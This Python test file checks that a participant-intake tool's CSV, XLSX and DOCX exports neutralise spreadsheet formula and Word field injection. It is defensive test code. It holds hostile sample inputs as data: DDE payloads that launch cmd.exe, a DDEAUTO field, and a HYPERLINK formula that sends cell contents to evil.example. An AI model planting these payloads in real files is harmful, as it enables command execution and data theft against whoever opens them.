"""What a sender writes in a name or function cannot run in the secretariat's spreadsheet or word processor:
the real files (from the store, the review page and `intake export`) opened with csv, openpyxl and python-docx.
"""
from __future__ import annotations

import csv
import io
import re
import warnings
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import docx
import openpyxl
import pytest
from browser import NOW, PASSWORD, SECRET, USER, review_config, seed
from click.testing import CliRunner

from intake import export
from intake.cli import main
from intake.export import participants_csv, participants_docx, participants_xlsx
from intake.store import Store
from intake.web import create_app

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

T = datetime(2017, 8, 1, tzinfo=UTC)
ORG = '=HYPERLINK("http://evil.example/?d="&A1,"Click for your badge")'
HOSTILE = {  # what a reply can put in each field; the parser and the page keep it as written
    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "function": "=cmd|' /C calc'!A0",
    "honorific": "-2+3",
    "organization": "+41 22 917 1234",
    "email": "\t=1+1@x.org",
}
SEMICOLON = "Director;=cmd|' /C notepad'!A0"  # a cell of its own where Excel splits on ';' (fr-CH, de-CH)
DDE = '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }'
RUNNABLE = re.compile(r"^ *[=+\-@\t\r]")


def hostile_store(path: Path) -> Store:
    store = Store(path)
    with store.transaction():
        org = store.add_organization(ORG, category="\r=1+1", invited=True, now=T)
        store.add_representative(org, now=T, head_of_delegation=True, **HOSTILE)
        store.add_representative(org, name="Ana Ruiz", function=SEMICOLON, now=T)
        store.add_representative(org, name="Jean Dupont", function=DDE, now=T)
        store.add_representative(org, name="Ann\x0bLee", function="Adviser\x1b[31m", now=T)  # controls
        store.add_representative(org, name="Normal Person", function="Director", now=T)
    return store


def assert_no_cell_runs(text: str, delimiter: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    for row in rows:
        for cell in row:
            assert not RUNNABLE.match(cell), (delimiter, cell)
    return rows


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    store = hostile_store(tmp_path / "db.sqlite")
    try:
        text = participants_csv(store)
    finally:
        store.close()
    rows = assert_no_cell_runs(text, ",")
    assert_no_cell_runs(text, ";")  # opened by a spreadsheet that splits on semicolons
    header, *people = rows
    head = dict(zip(header, people[0], strict=True))
    assert head["function"] == "'=cmd|' /C calc'!A0" and head["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert head["honorific"] == "'-2+3" and head["person_organization"] == "'+41 22 917 1234"
    assert head["email"] == "'\t=1+1@x.org" and head["organization"] == "'" + ORG and head["category"] == "'=1+1"
    by_name = {dict(zip(header, r, strict=True))["name"]: dict(zip(header, r, strict=True)) for r in people}
    assert by_name["Ana Ruiz"]["function"] == "Director;'=cmd|' /C notepad'!A0"
    assert by_name["Normal Person"]["function"] == "Director"
    assert all(line.startswith('"') for line in text.splitlines()[1:])  # every field quoted


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1"])
def test_spreadsheet_safe(text: str) -> None:
    assert export.spreadsheet_safe(text).startswith("'" + text)
    assert text.lstrip(" ").startswith(export.FORMULA_STARTS)


@pytest.mark.parametrize(("text", "safe"), [("Director;=1+1", "Director;'=1+1"), ("a, -1", "a, '-1"),
                                            ("x\n@A1", "x\n'@A1"), ("Jean-Luc Picard", "Jean-Luc Picard"),
                                            ("Head of Unit - Policy", "Head of Unit - Policy")])
def test_spreadsheet_safe_inside_a_cell(text: str, safe: str) -> None:
    assert export.spreadsheet_safe(text) == safe


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    store = hostile_store(tmp_path / "db.sqlite")
    try:
        assert participants_xlsx(store, tmp_path / "p.xlsx") == 5  # one odd character fails nothing
    finally:
        store.close()
    with zipfile.ZipFile(tmp_path / "p.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere in the file
    ws = openpyxl.load_workbook(tmp_path / "p.xlsx").active
    cells = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    for value in (HOSTILE["name"], HOSTILE["function"], HOSTILE["honorific"], HOSTILE["email"], ORG, "=1+1"):
        cell = cells[value]  # the text as the sender wrote it, no quote added ("=1+1" is the category)
        assert cell.data_type == "s" and cell.quotePrefix, value
    assert cells[SEMICOLON].data_type == "s"  # an XLSX cell is never split
    assert "Ann Lee" in cells and "Adviser [31m" in cells  # control characters became spaces
    assert not cells["Director"].quotePrefix


def test_docx_is_plain_text(tmp_path: Path) -> None:
    store = hostile_store(tmp_path / "db.sqlite")
    try:
        assert participants_docx(store, tmp_path / "p.docx", meeting_name="=1+1 meeting") == 5
    finally:
        store.close()
    with zipfile.ZipFile(tmp_path / "p.docx") as z:
        names = z.namelist()
        body = z.read("word/document.xml").decode()
    for marker in ("fldSimple", "instrText", "fldChar", "w:object", "altChunk", "hyperlink"):
        assert marker not in body, marker  # no field, embedded object, imported chunk or link
    assert not [n for n in names if "embeddings" in n or "externalLink" in n or n.endswith(".bin")]
    texts = [p.text for p in docx.Document(str(tmp_path / "p.docx")).paragraphs]
    assert f"Jean Dupont, {DDE}" in texts and "Ann Lee, Adviser [31m" in texts  # shown, as text


def test_the_review_page_and_the_cli_give_the_same_inert_files(tmp_path: Path) -> None:
    seeded = seed(review_config(tmp_path))
    hostile_store(seeded.cfg.store.path).close()
    c = TestClient(create_app(seeded.cfg, now=lambda: NOW, secret=SECRET), base_url="http://127.0.0.1")
    tok = re.search(r'name="csrf_token" value="([^"]+)"', c.get("/login").text)
    assert tok and c.post("/login", data={"csrf_token": tok.group(1), "username": USER,
                                          "password": PASSWORD}).status_code == 200
    page_csv = c.get("/participants.csv")
    assert page_csv.status_code == 200
    assert_no_cell_runs(page_csv.text, ",")
    assert_no_cell_runs(page_csv.text, ";")
    for fmt in ("xlsx", "docx"):
        r = c.get(f"/participants.{fmt}")
        assert r.status_code == 200, fmt  # a control character in a name no longer fails the export
        with zipfile.ZipFile(io.BytesIO(r.content)) as z:
            xml = z.read("xl/worksheets/sheet1.xml" if fmt == "xlsx" else "word/document.xml").decode()
        assert "<f>" not in xml and "instrText" not in xml
    cfg_file = tmp_path / "config.toml"
    cfg_file.write_text(f'[store]\npath = "{seeded.cfg.store.path}"\n', encoding="utf-8")
    out = CliRunner().invoke(main, ["export", "--format", "csv", "--config", str(cfg_file)])
    assert out.exit_code == 0 and out.output == page_csv.text
